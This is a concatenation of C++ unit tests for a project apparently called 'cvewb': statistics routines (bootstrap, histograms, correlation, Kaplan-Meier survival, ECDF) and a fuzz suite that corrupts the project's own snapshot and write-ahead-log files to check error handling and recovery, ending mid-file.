  EXPECT_DOUBLE_EQ(s.mean, 5.0);
  EXPECT_NEAR(s.stddev, 2.138, 1e-3);
  EXPECT_DOUBLE_EQ(s.min, 2.0);
  EXPECT_DOUBLE_EQ(s.max, 9.0);
  EXPECT_DOUBLE_EQ(s.median, 4.5);
}

TEST(Summary, OddMedianAndSingleton) {
  EXPECT_DOUBLE_EQ(summarize({3.0, 1.0, 2.0}).median, 2.0);
  const Summary one = summarize({42.0});
  EXPECT_DOUBLE_EQ(one.median, 42.0);
  EXPECT_DOUBLE_EQ(one.stddev, 0.0);
}

TEST(Summary, ThrowsOnEmpty) { EXPECT_THROW(summarize({}), std::invalid_argument); }

TEST(FractionBelow, StrictThreshold) {
  const std::vector<double> v = {1, 2, 3, 4};
  EXPECT_DOUBLE_EQ(fraction_below(v, 3.0), 0.5);
  EXPECT_DOUBLE_EQ(fraction_below(v, 0.0), 0.0);
  EXPECT_DOUBLE_EQ(fraction_below(v, 100.0), 1.0);
  EXPECT_DOUBLE_EQ(fraction_below({}, 1.0), 0.0);
}

TEST(WeightedFractionBelow, WeightsApplied) {
  EXPECT_DOUBLE_EQ(weighted_fraction_below({1.0, 5.0}, {3.0, 1.0}, 2.0), 0.75);
  EXPECT_THROW(weighted_fraction_below({1.0}, {1.0, 2.0}, 0.0), std::invalid_argument);
}

}  // namespace
}  // namespace cvewb::stats
