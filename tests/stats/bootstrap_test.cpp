#include "stats/bootstrap.h"

#include <gtest/gtest.h>

namespace cvewb::stats {
namespace {

double mean_of(const std::vector<double>& v) {
  double sum = 0;
  for (double x : v) sum += x;
  return sum / static_cast<double>(v.size());
}

TEST(Bootstrap, PointEstimateMatchesStatistic) {
  util::Rng rng(1);
  const std::vector<double> sample = {1, 2, 3, 4, 5};
  const Interval ci = bootstrap_ci(sample, mean_of, rng, 200);
  EXPECT_DOUBLE_EQ(ci.point, 3.0);
  EXPECT_LE(ci.lo, ci.point);
  EXPECT_GE(ci.hi, ci.point);
}

TEST(Bootstrap, IntervalCoversTrueMeanUsually) {
  util::Rng rng(2);
  std::vector<double> sample;
  for (int i = 0; i < 200; ++i) sample.push_back(rng.normal(10.0, 2.0));
  const Interval ci = bootstrap_ci(sample, mean_of, rng, 500, 0.95);
  EXPECT_LT(ci.lo, 10.3);
  EXPECT_GT(ci.hi, 9.7);
  EXPECT_LT(ci.hi - ci.lo, 1.5);
}

TEST(Bootstrap, DegenerateSampleCollapses) {
  util::Rng rng(3);
  const Interval ci = bootstrap_ci({7.0, 7.0, 7.0}, mean_of, rng, 100);
  EXPECT_DOUBLE_EQ(ci.lo, 7.0);
  EXPECT_DOUBLE_EQ(ci.hi, 7.0);
}

TEST(Bootstrap, RejectsBadInputs) {
  util::Rng rng(4);
  EXPECT_THROW(bootstrap_ci({}, mean_of, rng), std::invalid_argument);
  EXPECT_THROW(bootstrap_ci({1.0}, mean_of, rng, 1), std::invalid_argument);
}

TEST(BootstrapProportion, MatchesObservedRate) {
  util::Rng rng(5);
  std::vector<bool> outcomes(100, false);
  for (int i = 0; i < 30; ++i) outcomes[static_cast<std::size_t>(i)] = true;
  const Interval ci = bootstrap_proportion(outcomes, rng, 500);
  EXPECT_DOUBLE_EQ(ci.point, 0.3);
  EXPECT_GT(ci.lo, 0.15);
  EXPECT_LT(ci.hi, 0.45);
}

}  // namespace
}  // namespace cvewb::stats
