#include "stats/histogram.h"

#include <gtest/gtest.h>

namespace cvewb::stats {
namespace {

TEST(Histogram, BinAssignment) {
  Histogram h(0.0, 10.0, 5);
  h.add(0.0);
  h.add(1.9);
  h.add(2.0);
  h.add(9.999);
  EXPECT_DOUBLE_EQ(h.count(0), 2);
  EXPECT_DOUBLE_EQ(h.count(1), 1);
  EXPECT_DOUBLE_EQ(h.count(4), 1);
}

TEST(Histogram, UnderOverflow) {
  Histogram h(0.0, 10.0, 2);
  h.add(-1.0);
  h.add(10.0);  // hi edge is exclusive
  h.add(42.0);
  EXPECT_DOUBLE_EQ(h.underflow(), 1);
  EXPECT_DOUBLE_EQ(h.overflow(), 2);
  EXPECT_DOUBLE_EQ(h.total(), 3);
}

TEST(Histogram, WeightedAdds) {
  Histogram h(0.0, 1.0, 1);
  h.add(0.5, 2.5);
  EXPECT_DOUBLE_EQ(h.count(0), 2.5);
}

TEST(Histogram, BinEdges) {
  Histogram h(-10.0, 10.0, 4);
  EXPECT_DOUBLE_EQ(h.bin_lo(0), -10.0);
  EXPECT_DOUBLE_EQ(h.bin_hi(0), -5.0);
  EXPECT_DOUBLE_EQ(h.bin_center(2), 2.5);
}

TEST(Histogram, RejectsBadRange) {
  EXPECT_THROW(Histogram(1.0, 1.0, 4), std::invalid_argument);
  EXPECT_THROW(Histogram(0.0, 1.0, 0), std::invalid_argument);
}

TEST(DistinctPerBin, CountsEachCategoryOnce) {
  DistinctPerBin bins(0.0, 10.0, 2);
  bins.add(1.0, 7);
  bins.add(2.0, 7);  // same category, same bin
  bins.add(3.0, 8);
  bins.add(6.0, 7);  // same category, other bin
  EXPECT_EQ(bins.distinct(0), 2u);
  EXPECT_EQ(bins.distinct(1), 1u);
}

TEST(DistinctPerBin, IgnoresOutOfRange) {
  DistinctPerBin bins(0.0, 10.0, 2);
  bins.add(-1.0, 1);
  bins.add(10.0, 2);
  EXPECT_EQ(bins.distinct(0), 0u);
  EXPECT_EQ(bins.distinct(1), 0u);
}

}  // namespace
}  // namespace cvewb::stats
