#include "stats/correlation.h"

#include <gtest/gtest.h>

#include <cmath>

#include "util/rng.h"

namespace cvewb::stats {
namespace {

TEST(Pearson, PerfectAndInverse) {
  EXPECT_NEAR(pearson({1, 2, 3, 4}, {2, 4, 6, 8}), 1.0, 1e-12);
  EXPECT_NEAR(pearson({1, 2, 3, 4}, {8, 6, 4, 2}), -1.0, 1e-12);
}

TEST(Pearson, ConstantInputYieldsZero) {
  EXPECT_DOUBLE_EQ(pearson({1, 1, 1}, {1, 2, 3}), 0.0);
}

TEST(Pearson, Errors) {
  EXPECT_THROW(pearson({1}, {1}), std::invalid_argument);
  EXPECT_THROW(pearson({1, 2}, {1, 2, 3}), std::invalid_argument);
}

TEST(Ranks, TiesShareAverageRank) {
  const auto r = ranks({10, 20, 20, 30});
  ASSERT_EQ(r.size(), 4u);
  EXPECT_DOUBLE_EQ(r[0], 1.0);
  EXPECT_DOUBLE_EQ(r[1], 2.5);
  EXPECT_DOUBLE_EQ(r[2], 2.5);
  EXPECT_DOUBLE_EQ(r[3], 4.0);
}

TEST(Spearman, MonotoneNonlinearIsPerfect) {
  // Spearman sees through monotone transforms; Pearson does not.
  std::vector<double> x;
  std::vector<double> y;
  for (int i = 1; i <= 20; ++i) {
    x.push_back(i);
    y.push_back(std::exp(i / 3.0));
  }
  EXPECT_NEAR(spearman(x, y), 1.0, 1e-12);
  EXPECT_LT(pearson(x, y), 0.95);
}

TEST(Spearman, IndependentSamplesNearZero) {
  util::Rng rng(3);
  std::vector<double> x;
  std::vector<double> y;
  for (int i = 0; i < 2000; ++i) {
    x.push_back(rng.uniform());
    y.push_back(rng.uniform());
  }
  EXPECT_NEAR(spearman(x, y), 0.0, 0.05);
}

TEST(ChiSquareUpperTail, KnownValues) {
  // P(X >= 3.841 | dof 1) = 0.05; P(X >= 0) = 1.
  EXPECT_NEAR(chi_square_upper_tail(3.841, 1), 0.05, 0.001);
  EXPECT_NEAR(chi_square_upper_tail(5.991, 2), 0.05, 0.001);
  EXPECT_NEAR(chi_square_upper_tail(18.307, 10), 0.05, 0.001);
  EXPECT_DOUBLE_EQ(chi_square_upper_tail(0.0, 5), 1.0);
  EXPECT_LT(chi_square_upper_tail(100.0, 2), 1e-10);
}

TEST(ChiSquareUniform, UniformSampleNotRejected) {
  util::Rng rng(4);
  std::vector<std::size_t> counts(16, 0);
  for (int i = 0; i < 16000; ++i) ++counts[rng.uniform_u64(counts.size())];
  const ChiSquare result = chi_square_uniform(counts);
  EXPECT_EQ(result.dof, 15u);
  EXPECT_GT(result.p_value, 0.01);
}

TEST(ChiSquareUniform, SkewedSampleRejected) {
  std::vector<std::size_t> counts(10, 100);
  counts[0] = 1000;
  const ChiSquare result = chi_square_uniform(counts);
  EXPECT_LT(result.p_value, 1e-6);
}

TEST(ChiSquareUniform, Errors) {
  EXPECT_THROW(chi_square_uniform({5}), std::invalid_argument);
  EXPECT_THROW(chi_square_uniform({0, 0}), std::invalid_argument);
}

}  // namespace
}  // namespace cvewb::stats
