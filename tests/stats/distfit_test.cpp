#include "stats/distfit.h"

#include <gtest/gtest.h>

#include <cmath>

#include "util/rng.h"

namespace cvewb::stats {
namespace {

TEST(ExponentialCdf, KnownValues) {
  EXPECT_DOUBLE_EQ(exponential_cdf(0.0, 5.0), 0.0);
  EXPECT_DOUBLE_EQ(exponential_cdf(-1.0, 5.0), 0.0);
  EXPECT_NEAR(exponential_cdf(5.0, 5.0), 1.0 - std::exp(-1.0), 1e-12);
}

TEST(FitExponential, RecoversMeanAndFitsWell) {
  util::Rng rng(6);
  std::vector<double> sample;
  for (int i = 0; i < 5000; ++i) sample.push_back(rng.exponential(12.0));
  const ExponentialFit fit = fit_exponential(sample);
  EXPECT_NEAR(fit.mean, 12.0, 0.5);
  EXPECT_LT(fit.ks, 0.03);  // a true exponential sample fits tightly
}

TEST(FitExponential, DetectsNonExponential) {
  // A uniform sample on [10, 11] is far from exponential.
  util::Rng rng(7);
  std::vector<double> sample;
  for (int i = 0; i < 2000; ++i) sample.push_back(rng.uniform(10.0, 11.0));
  const ExponentialFit fit = fit_exponential(sample);
  EXPECT_GT(fit.ks, 0.3);
}

TEST(FitExponential, RejectsBadInput) {
  EXPECT_THROW(fit_exponential({}), std::invalid_argument);
  EXPECT_THROW(fit_exponential({1.0, -0.1}), std::invalid_argument);
}

TEST(FitExponential, AllZerosYieldsKsOne) {
  const ExponentialFit fit = fit_exponential({0.0, 0.0});
  EXPECT_DOUBLE_EQ(fit.ks, 1.0);
}

}  // namespace
}  // namespace cvewb::stats
