#include "stats/survival.h"

#include <gtest/gtest.h>

#include <cmath>

namespace cvewb::stats {
namespace {

TEST(KaplanMeier, NoCensoringMatchesEcdfComplement) {
  // Without censoring, S(t) = 1 - ECDF(t).
  const auto curve = kaplan_meier({{1, true}, {2, true}, {3, true}, {4, true}});
  ASSERT_EQ(curve.size(), 4u);
  EXPECT_DOUBLE_EQ(curve[0].survival, 0.75);
  EXPECT_DOUBLE_EQ(curve[1].survival, 0.50);
  EXPECT_DOUBLE_EQ(curve[3].survival, 0.0);
  EXPECT_DOUBLE_EQ(survival_at(curve, 2.5), 0.5);
  EXPECT_DOUBLE_EQ(survival_at(curve, 0.5), 1.0);
}

TEST(KaplanMeier, TextbookCensoredExample) {
  // Classic worked example: events at 6 (3 ties), censor at 6, events at
  // 7, 10; censored 9, 11+.
  const auto curve = kaplan_meier({{6, true},
                                   {6, true},
                                   {6, true},
                                   {6, false},
                                   {7, true},
                                   {9, false},
                                   {10, true},
                                   {11, false}});
  // S(6) = 1 - 3/8 = 0.625; S(7) = 0.625 * (1 - 1/4) = 0.46875;
  // S(10) = 0.46875 * (1 - 1/2) = 0.234375.
  ASSERT_EQ(curve.size(), 3u);
  EXPECT_DOUBLE_EQ(curve[0].survival, 0.625);
  EXPECT_DOUBLE_EQ(curve[1].survival, 0.46875);
  EXPECT_DOUBLE_EQ(curve[2].survival, 0.234375);
  EXPECT_EQ(curve[0].at_risk, 8u);
  EXPECT_EQ(curve[1].at_risk, 4u);
}

TEST(KaplanMeier, AllCensoredStaysAtOne) {
  const auto curve = kaplan_meier({{5, false}, {9, false}});
  EXPECT_TRUE(curve.empty());
  EXPECT_DOUBLE_EQ(survival_at(curve, 100.0), 1.0);
  EXPECT_TRUE(std::isnan(median_survival(curve)));
}

TEST(KaplanMeier, MedianSurvival) {
  const auto curve = kaplan_meier({{1, true}, {2, true}, {3, true}, {4, true}});
  EXPECT_DOUBLE_EQ(median_survival(curve), 2.0);
}

TEST(KaplanMeier, CensoringRaisesTailSurvivalVsNaiveDrop) {
  // Dropping censored subjects (the naive CDF approach) underestimates
  // survival relative to Kaplan-Meier handling.
  const auto km = kaplan_meier({{1, true}, {2, false}, {3, true}, {4, false}, {5, true}});
  const auto naive = kaplan_meier({{1, true}, {3, true}, {5, true}});
  EXPECT_GT(survival_at(km, 3.0), survival_at(naive, 3.0));
}

TEST(KaplanMeier, RejectsNegativeDurations) {
  EXPECT_THROW(kaplan_meier({{-1, true}}), std::invalid_argument);
}

TEST(KaplanMeier, EmptyInput) {
  EXPECT_TRUE(kaplan_meier({}).empty());
}

// Edge-case contract pins: an empty curve (no events) has S(t) = 1.0 for
// every t and an undefined (NaN) median; before the first event time the
// estimator is exactly 1.0, including for negative t.
TEST(KaplanMeier, EmptyCurveSemantics) {
  const std::vector<SurvivalStep> empty;
  EXPECT_DOUBLE_EQ(survival_at(empty, -5.0), 1.0);
  EXPECT_DOUBLE_EQ(survival_at(empty, 0.0), 1.0);
  EXPECT_DOUBLE_EQ(survival_at(empty, 1e9), 1.0);
  EXPECT_TRUE(std::isnan(median_survival(empty)));
}

TEST(KaplanMeier, SurvivalBeforeFirstStepIsOne) {
  const auto curve = kaplan_meier({{10, true}, {20, true}});
  ASSERT_FALSE(curve.empty());
  EXPECT_DOUBLE_EQ(survival_at(curve, -1.0), 1.0);
  EXPECT_DOUBLE_EQ(survival_at(curve, 0.0), 1.0);
  EXPECT_DOUBLE_EQ(survival_at(curve, 9.999), 1.0);
  // At the first step time itself the drop has happened.
  EXPECT_DOUBLE_EQ(survival_at(curve, 10.0), 0.5);
}

TEST(KaplanMeier, MedianOfAllCensoredInputIsNaN) {
  const auto curve = kaplan_meier({{1, false}, {2, false}, {3, false}});
  EXPECT_TRUE(curve.empty());
  EXPECT_TRUE(std::isnan(median_survival(curve)));
  EXPECT_DOUBLE_EQ(survival_at(curve, 2.0), 1.0);
}

TEST(KaplanMeier, MedianPlateauAboveHalfIsNaN) {
  // One event among four subjects: S plateaus at 0.75, never crossing 0.5.
  const auto curve = kaplan_meier({{1, true}, {2, false}, {3, false}, {4, false}});
  ASSERT_EQ(curve.size(), 1u);
  EXPECT_DOUBLE_EQ(curve[0].survival, 0.75);
  EXPECT_TRUE(std::isnan(median_survival(curve)));
}

}  // namespace
}  // namespace cvewb::stats
