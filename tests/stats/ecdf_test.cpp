#include "stats/ecdf.h"

#include <gtest/gtest.h>

#include "util/rng.h"

namespace cvewb::stats {
namespace {

TEST(Ecdf, StepFunctionValues) {
  const Ecdf f({1.0, 2.0, 3.0, 4.0});
  EXPECT_DOUBLE_EQ(f.at(0.5), 0.0);
  EXPECT_DOUBLE_EQ(f.at(1.0), 0.25);
  EXPECT_DOUBLE_EQ(f.at(2.5), 0.5);
  EXPECT_DOUBLE_EQ(f.at(4.0), 1.0);
  EXPECT_DOUBLE_EQ(f.at(100.0), 1.0);
}

TEST(Ecdf, HandlesDuplicates) {
  const Ecdf f({1.0, 1.0, 1.0, 2.0});
  EXPECT_DOUBLE_EQ(f.at(1.0), 0.75);
  EXPECT_DOUBLE_EQ(f.at(0.999), 0.0);
}

TEST(Ecdf, EmptySample) {
  const Ecdf f;
  EXPECT_TRUE(f.empty());
  EXPECT_DOUBLE_EQ(f.at(0.0), 0.0);
  EXPECT_THROW(f.quantile(0.5), std::logic_error);
}

TEST(Ecdf, Quantiles) {
  const Ecdf f({10.0, 20.0, 30.0, 40.0});
  EXPECT_DOUBLE_EQ(f.quantile(0.0), 10.0);
  EXPECT_DOUBLE_EQ(f.quantile(0.5), 20.0);
  EXPECT_DOUBLE_EQ(f.quantile(1.0), 40.0);
}

TEST(Ecdf, QuantileIsInverseOfAt) {
  // Property: for every sample point x, at(quantile(at(x))) == at(x).
  util::Rng rng(5);
  std::vector<double> sample;
  for (int i = 0; i < 500; ++i) sample.push_back(rng.normal());
  const Ecdf f(sample);
  for (double x : f.sorted()) {
    const double p = f.at(x);
    EXPECT_LE(f.quantile(p), x + 1e-12);
  }
}

TEST(Ecdf, CurveIsMonotoneAndEndsAtOne) {
  util::Rng rng(9);
  std::vector<double> sample;
  for (int i = 0; i < 1000; ++i) sample.push_back(rng.uniform());
  const Ecdf f(sample);
  const auto curve = f.curve(64);
  ASSERT_FALSE(curve.empty());
  for (std::size_t i = 1; i < curve.size(); ++i) {
    EXPECT_GE(curve[i].first, curve[i - 1].first);
    EXPECT_GE(curve[i].second, curve[i - 1].second);
  }
  EXPECT_DOUBLE_EQ(curve.back().second, 1.0);
}

TEST(Ecdf, KsDistanceIdenticalIsZero) {
  const Ecdf f({1, 2, 3});
  EXPECT_DOUBLE_EQ(Ecdf::ks_distance(f, f), 0.0);
}

TEST(Ecdf, KsDistanceDisjointIsOne) {
  const Ecdf f({1, 2});
  const Ecdf g({10, 20});
  EXPECT_DOUBLE_EQ(Ecdf::ks_distance(f, g), 1.0);
}

}  // namespace
}  // namespace cvewb::stats
