// Store-file fuzzing: truncations, bit flips, and bad magic/version
// against both on-disk formats.  The corruption contract (store.h): a
// damaged snapshot with no valid fallback fails open() with a structured
// StoreError; damaged WAL segments are dropped under the valid-prefix
// rule with the drop counted in stats -- and in no case UB, a crash, or
// a silently wrong answer.  The suite runs under the sanitizer build, so
// "no UB" is enforced, not assumed.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdint>
#include <filesystem>
#include <fstream>
#include <optional>
#include <string>
#include <utility>
#include <vector>

#include "store/error.h"
#include "store/format.h"
#include "store/store.h"
#include "store_support.h"
#include "util/rng.h"

namespace cvewb::store {
namespace {

namespace fs = std::filesystem;
using test_support::fresh_dir;
using test_support::shared_study;
using test_support::store_fingerprint;

std::string slurp(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
}

void spew(const fs::path& path, const std::string& bytes) {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  out.write(bytes.data(), static_cast<std::streamsize>(bytes.size()));
}

/// The single store file in `dir` matching stem/ext, or an empty path.
fs::path find_store_file(const fs::path& dir, const char* stem, const char* ext) {
  for (const auto& entry : fs::directory_iterator(dir)) {
    std::uint64_t lsn = 0;
    if (parse_store_file_name(entry.path().filename().string(), stem, ext, lsn)) {
      return entry.path();
    }
  }
  return {};
}

struct FileFixture {
  std::string name;   // the on-disk file name (lsn-encoded)
  std::string bytes;  // pristine contents
};

/// One checkpointed store: the directory holds exactly one snapshot.
const FileFixture& pristine_snapshot() {
  static const FileFixture fixture = [] {
    const fs::path dir = fresh_dir("fuzz-snapshot-source");
    auto store = Store::open(dir);
    EXPECT_NE(store, nullptr);
    EXPECT_TRUE(store->ingest(shared_study(11), "run-11"));
    EXPECT_TRUE(store->checkpoint());
    const fs::path path = find_store_file(dir, "snap-", ".cvwbs");
    EXPECT_FALSE(path.empty());
    return FileFixture{path.filename().string(), slurp(path)};
  }();
  return fixture;
}

/// One uncheckpointed store: the directory holds exactly one WAL segment.
const FileFixture& pristine_wal() {
  static const FileFixture fixture = [] {
    const fs::path dir = fresh_dir("fuzz-wal-source");
    auto store = Store::open(dir);
    EXPECT_NE(store, nullptr);
    EXPECT_TRUE(store->ingest(shared_study(11), "run-11"));
    const fs::path path = find_store_file(dir, "wal-", ".cvwbw");
    EXPECT_FALSE(path.empty());
    return FileFixture{path.filename().string(), slurp(path)};
  }();
  return fixture;
}

/// Open a fresh directory seeded with one mutated snapshot and demand a
/// structured rejection (optionally a specific code).
void expect_snapshot_rejected(const std::string& tag, const std::string& mutated,
                              std::optional<StoreErrorCode> want_code = std::nullopt) {
  SCOPED_TRACE(tag);
  const fs::path dir = fresh_dir("fuzz-" + tag);
  spew(dir / pristine_snapshot().name, mutated);
  StoreError error;
  auto store = Store::open(dir, {}, &error);
  EXPECT_EQ(store, nullptr);
  EXPECT_NE(error.code, StoreErrorCode::kNone);
  EXPECT_FALSE(error.detail.empty());
  if (want_code) {
    EXPECT_EQ(error.code, *want_code) << store_error_name(error.code);
  }
}

/// Open a fresh directory seeded with one mutated WAL segment: the store
/// must open, drop the segment, and stay fully usable.
void expect_wal_dropped(const std::string& tag, const std::string& mutated) {
  SCOPED_TRACE(tag);
  const fs::path dir = fresh_dir("fuzz-" + tag);
  spew(dir / pristine_wal().name, mutated);
  StoreError error;
  auto store = Store::open(dir, {}, &error);
  ASSERT_NE(store, nullptr) << error.detail;
  EXPECT_FALSE(store->contains_run("run-11"));
  EXPECT_GE(store->stats().dropped_segments, 1u);
  EXPECT_TRUE(store->verify(&error)) << error.detail;
  // The quarantine is complete: normal commits work from here on.
  EXPECT_TRUE(store->ingest(shared_study(12), "run-12", &error)) << error.detail;
  EXPECT_TRUE(store->contains_run("run-12"));
}

TEST(StoreFuzz, TruncatedSnapshotIsAStructuredError) {
  const std::string& bytes = pristine_snapshot().bytes;
  ASSERT_GT(bytes.size(), kSnapshotHeaderBytes + kSectionEntryBytes);
  const std::size_t lengths[] = {0,
                                 1,
                                 7,
                                 kSnapshotHeaderBytes - 1,
                                 kSnapshotHeaderBytes,
                                 kSnapshotHeaderBytes + kSectionEntryBytes,
                                 bytes.size() / 2,
                                 bytes.size() - 1};
  for (const std::size_t length : lengths) {
    expect_snapshot_rejected("snap-truncate-" + std::to_string(length), bytes.substr(0, length));
  }
  // The canonical cases carry the canonical code.
  expect_snapshot_rejected("snap-truncate-empty", "", StoreErrorCode::kTruncated);
  expect_snapshot_rejected("snap-truncate-tail", bytes.substr(0, bytes.size() - 1),
                           StoreErrorCode::kTruncated);
}

TEST(StoreFuzz, BitFlippedSnapshotIsAStructuredError) {
  const std::string& bytes = pristine_snapshot().bytes;
  const auto flipped = [&](std::size_t offset, std::uint8_t mask) {
    std::string copy = bytes;
    copy[offset] = static_cast<char>(static_cast<std::uint8_t>(copy[offset]) ^ mask);
    return copy;
  };
  // Magic, version, and digest bytes each have a named failure.
  expect_snapshot_rejected("snap-flip-magic", flipped(3, 0x40), StoreErrorCode::kBadMagic);
  expect_snapshot_rejected("snap-flip-version", flipped(8, 0x08), StoreErrorCode::kBadVersion);
  expect_snapshot_rejected("snap-flip-digest", flipped(32, 0x01), StoreErrorCode::kCorrupt);
  // Every byte of the section region is covered by the header digest, so
  // any flip there is kCorrupt.  Sample offsets across the whole region
  // (dictionary, run table, columns, payload heap, postings).
  const auto section_count =
      read_pod<std::uint32_t>(std::string_view(bytes), 12);
  const std::size_t sections_start =
      kSnapshotHeaderBytes + static_cast<std::size_t>(section_count) * kSectionEntryBytes;
  ASSERT_LT(sections_start, bytes.size());
  util::Rng rng(0xF1177);
  for (int i = 0; i < 32; ++i) {
    const std::size_t offset =
        sections_start + rng.uniform_u64(bytes.size() - sections_start);
    const auto mask = static_cast<std::uint8_t>(1u << rng.uniform_u64(8));
    expect_snapshot_rejected("snap-flip-" + std::to_string(offset) + "-" + std::to_string(mask),
                             flipped(offset, mask), StoreErrorCode::kCorrupt);
  }
}

TEST(StoreFuzz, ForeignMagicAndFutureVersionAreNamedErrors) {
  std::string wrong_magic = pristine_snapshot().bytes;
  wrong_magic.replace(0, 8, "NOTASNAP");
  expect_snapshot_rejected("snap-bad-magic", wrong_magic, StoreErrorCode::kBadMagic);

  std::string future = pristine_snapshot().bytes;
  future[8] = 99;  // version little-endian low byte
  expect_snapshot_rejected("snap-future-version", future, StoreErrorCode::kBadVersion);

  // A WAL segment dropped into a snapshot's file name: magic mismatch.
  expect_snapshot_rejected("snap-is-wal", pristine_wal().bytes, StoreErrorCode::kBadMagic);
}

TEST(StoreFuzz, DamagedWalSegmentsAreDroppedNotFatal) {
  const std::string& bytes = pristine_wal().bytes;
  ASSERT_GT(bytes.size(), kWalHeaderBytes);
  // Truncations at and around every header boundary.
  for (const std::size_t length :
       {std::size_t{0}, std::size_t{1}, std::size_t{8}, kWalHeaderBytes - 1, kWalHeaderBytes,
        bytes.size() / 2, bytes.size() - 1}) {
    expect_wal_dropped("wal-truncate-" + std::to_string(length), bytes.substr(0, length));
  }
  // Bit flips in the magic, the lsn, the payload length, the digest, and
  // sampled payload bytes.
  const auto flipped = [&](std::size_t offset) {
    std::string copy = bytes;
    copy[offset] = static_cast<char>(copy[offset] ^ 0x10);
    return copy;
  };
  for (const std::size_t offset : {std::size_t{0}, std::size_t{16}, std::size_t{24},
                                   std::size_t{40}, kWalHeaderBytes, bytes.size() - 1}) {
    expect_wal_dropped("wal-flip-" + std::to_string(offset), flipped(offset));
  }
  util::Rng rng(0xF1178);
  for (int i = 0; i < 16; ++i) {
    const std::size_t offset = kWalHeaderBytes + rng.uniform_u64(bytes.size() - kWalHeaderBytes);
    expect_wal_dropped("wal-flip-payload-" + std::to_string(offset), flipped(offset));
  }
}

TEST(StoreFuzz, ValidPrefixRuleDropsEverythingAfterTheFirstDamagedSegment) {
  // Two committed segments; damaging the first must drop both (recovery
  // never applies a segment above a gap), damaging the second only it.
  const fs::path source = fresh_dir("fuzz-prefix-source");
  std::string fingerprint_first_only;
  {
    auto store = Store::open(source);
    ASSERT_NE(store, nullptr);
    ASSERT_TRUE(store->ingest(shared_study(11), "run-11"));
    fingerprint_first_only = store_fingerprint(*store);
    ASSERT_TRUE(store->ingest(shared_study(12), "run-12"));
  }
  std::vector<fs::path> segments;
  for (const auto& entry : fs::directory_iterator(source)) {
    std::uint64_t lsn = 0;
    if (parse_store_file_name(entry.path().filename().string(), "wal-", ".cvwbw", lsn)) {
      segments.push_back(entry.path());
    }
  }
  ASSERT_EQ(segments.size(), 2u);
  std::sort(segments.begin(), segments.end());

  const auto copy_with_damage = [&](const fs::path& dir, const fs::path& victim) {
    for (const fs::path& segment : segments) {
      std::string bytes = slurp(segment);
      if (segment == victim) bytes.resize(bytes.size() / 2);
      spew(dir / segment.filename(), bytes);
    }
  };

  {
    const fs::path dir = fresh_dir("fuzz-prefix-first");
    copy_with_damage(dir, segments[0]);
    auto store = Store::open(dir);
    ASSERT_NE(store, nullptr);
    EXPECT_FALSE(store->contains_run("run-11"));
    EXPECT_FALSE(store->contains_run("run-12"));
    EXPECT_EQ(store->stats().dropped_segments, 2u);
  }
  {
    const fs::path dir = fresh_dir("fuzz-prefix-second");
    copy_with_damage(dir, segments[1]);
    auto store = Store::open(dir);
    ASSERT_NE(store, nullptr);
    EXPECT_TRUE(store->contains_run("run-11"));
    EXPECT_FALSE(store->contains_run("run-12"));
    EXPECT_EQ(store->stats().dropped_segments, 1u);
    EXPECT_EQ(store_fingerprint(*store), fingerprint_first_only);
    StoreError error;
    EXPECT_TRUE(store->verify(&error)) << error.detail;
  }
}

TEST(StoreFuzz, DamagedWalAboveAnIntactSnapshotKeepsTheSnapshot) {
  const fs::path source = fresh_dir("fuzz-snap-plus-wal-source");
  std::string fingerprint_snapshot_only;
  {
    auto store = Store::open(source);
    ASSERT_NE(store, nullptr);
    ASSERT_TRUE(store->ingest(shared_study(11), "run-11"));
    ASSERT_TRUE(store->checkpoint());
    fingerprint_snapshot_only = store_fingerprint(*store);
    ASSERT_TRUE(store->ingest(shared_study(12), "run-12"));
  }
  const fs::path wal = find_store_file(source, "wal-", ".cvwbw");
  ASSERT_FALSE(wal.empty());
  std::string bytes = slurp(wal);
  bytes[bytes.size() / 2] = static_cast<char>(bytes[bytes.size() / 2] ^ 0x01);
  spew(wal, bytes);

  auto store = Store::open(source);
  ASSERT_NE(store, nullptr);
  EXPECT_TRUE(store->contains_run("run-11"));
  EXPECT_FALSE(store->contains_run("run-12"));
  EXPECT_GE(store->stats().dropped_segments, 1u);
  EXPECT_EQ(store_fingerprint(*store), fingerprint_snapshot_only);
}

TEST(StoreFuzz, CorruptNewestSnapshotFallsBackAndReplaysTheArchiveChain) {
  const fs::path dir = fresh_dir("fuzz-snap-fallback");
  std::string old_name;
  std::string old_bytes;
  std::string fingerprint_full;
  {
    auto store = Store::open(dir);
    ASSERT_NE(store, nullptr);
    ASSERT_TRUE(store->ingest(shared_study(11), "run-11"));
    ASSERT_TRUE(store->checkpoint());
    const fs::path old_snap = find_store_file(dir, "snap-", ".cvwbs");
    ASSERT_FALSE(old_snap.empty());
    old_name = old_snap.filename().string();
    old_bytes = slurp(old_snap);
    ASSERT_TRUE(store->ingest(shared_study(12), "run-12"));
    ASSERT_TRUE(store->checkpoint());  // appends a range segment on top
    // Compaction merges snapshot + segment into a single newer snapshot
    // and removes both superseded files.
    ASSERT_TRUE(store->compact());
    fingerprint_full = store_fingerprint(*store);
  }
  // Resurrect the superseded snapshot, then corrupt the newest one
  // (located by lsn -- find_store_file would return either).
  spew(dir / old_name, old_bytes);
  fs::path newest;
  std::uint64_t newest_lsn = 0;
  for (const auto& entry : fs::directory_iterator(dir)) {
    std::uint64_t lsn = 0;
    if (parse_store_file_name(entry.path().filename().string(), "snap-", ".cvwbs", lsn) &&
        lsn > newest_lsn) {
      newest_lsn = lsn;
      newest = entry.path();
    }
  }
  ASSERT_FALSE(newest.empty());
  ASSERT_NE(newest.filename().string(), old_name);
  std::string bytes = slurp(newest);
  bytes[40] = static_cast<char>(bytes[40] ^ 0x01);  // digest byte
  spew(newest, bytes);

  // Open falls back to the older snapshot (commit 1), then the archived
  // WAL retired by the second checkpoint re-derives commit 2: nothing the
  // damaged snapshot held is actually lost.
  StoreError error;
  auto store = Store::open(dir, {}, &error);
  ASSERT_NE(store, nullptr) << error.detail;
  EXPECT_TRUE(store->contains_run("run-11"));
  EXPECT_TRUE(store->contains_run("run-12"));
  EXPECT_EQ(store_fingerprint(*store), fingerprint_full);
  EXPECT_TRUE(store->verify(&error)) << error.detail;
  // The damaged file was quarantined on open.
  EXPECT_FALSE(fs::exists(newest));
}

/// Pristine three-tier chain (snapshot + two range segments) for the
/// segment fuzz cases below: run-11 in the snapshot, run-12 in the first
/// segment, run-13 in the second.
